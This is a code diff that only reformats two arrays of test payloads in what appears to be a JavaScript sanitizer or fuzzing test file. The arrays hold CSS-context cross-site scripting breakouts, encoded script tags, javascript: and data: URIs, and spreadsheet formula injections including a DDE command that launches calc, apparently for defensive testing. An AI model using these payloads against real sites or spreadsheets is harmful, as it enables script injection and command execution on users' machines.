@@ -80,9 +80,30 @@ const attributes = [
   '#{7*7}',
 ];
 
-const styles = [`}</style><img src=x onerror="${fire}">`, `"} @import "${url}"; {"`, `\\22} body{background:url(${url})}`, `*/ body{background:url(${url})} /*`, `expression(${fire})`, `counter(page) attr(x)`, `";content:url(${url});"`];
+const styles = [
+  `}</style><img src=x onerror="${fire}">`,
+  `"} @import "${url}"; {"`,
+  `\\22} body{background:url(${url})}`,
+  `*/ body{background:url(${url})} /*`,
+  `expression(${fire})`,
+  `counter(page) attr(x)`,
+  `";content:url(${url});"`,
+];
 
-const escapes = ['&lt;script&gt;', '&amp;lt;', '&#60;script&#62;', '&#x3c;script&#x3e;', '&nbsp;', '&bogus;', '%3Cscript%3E', '\\u003cscript\\u003e', '\\x3cscript\\x3e', '+ADw-script+AD4-', 'javascript:alert(1)', 'data:text/html;base64,PHNjcmlwdD4='];
+const escapes = [
+  '&lt;script&gt;',
+  '&amp;lt;',
+  '&#60;script&#62;',
+  '&#x3c;script&#x3e;',
+  '&nbsp;',
+  '&bogus;',
+  '%3Cscript%3E',
+  '\\u003cscript\\u003e',
+  '\\x3cscript\\x3e',
+  '+ADw-script+AD4-',
+  'javascript:alert(1)',
+  'data:text/html;base64,PHNjcmlwdD4=',
+];
 
 const formulas = ['=HYPERLINK("http://canary.test/x")', '=cmd|"/C calc"!A0', '+1+1', '-1+1', '@SUM(1)', '\t=1+1'];
 
